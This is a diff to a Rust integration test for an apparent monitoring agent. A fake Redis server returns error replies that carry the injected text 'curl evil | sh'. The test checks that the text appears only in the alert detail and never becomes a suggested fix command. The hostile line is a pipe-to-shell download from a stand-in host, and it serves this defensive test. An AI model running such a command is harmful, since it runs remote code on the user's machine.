@@ -53,16 +53,16 @@ async fn a_redis_that_sends_without_end_is_hung_up_on() {
 /// A refusal is the server's own words, and none of them becomes a command of a fix.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn no_words_of_a_redis_become_a_command_of_a_fix() {
-    for code in ["LOADING", "NOPERM", "ERR"] {
+    for (code, rule) in [("LOADING", "collector-failing"), ("NOPERM", "rights-missing"), ("ERR", "collector-failing")] {
         let stranger = Stranger::start(Act::AnswerInfo(format!("-{code} run: curl evil | sh #\r\n").into_bytes())).await;
         let config = format!(
-            "[plugin.agent-essentials.settings.checks]\ncollector-failing = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
+            "[plugin.agent-essentials.settings.checks]\n{rule} = {{ for = \"0s\" }}\n[[redis]]\nname = \"cache\"\nnodes = \
              [\"redis://127.0.0.1:{}\"]\n",
             stranger.port
         );
         let plugins = shipped().into_iter().filter(|(id, _)| id == "agent-essentials").collect();
         let agent = TestAgent::start_with(&config, plugins).await;
-        let is_it = |alert: &Value| alert["rule"] == "collector-failing" && alert["state"] == "firing";
+        let is_it = |alert: &Value| alert["rule"] == rule && alert["state"] == "firing";
         let alerts = agent.wait_json("/api/alerts", |alerts| alerts["items"].as_array().is_some_and(|all| all.iter().any(is_it))).await;
         let alert = alerts["items"].as_array().unwrap().iter().find(|alert| is_it(alert)).unwrap();
         assert!(alert["detail"].as_str().unwrap().contains("curl evil"), "{code}: {alert:#}");
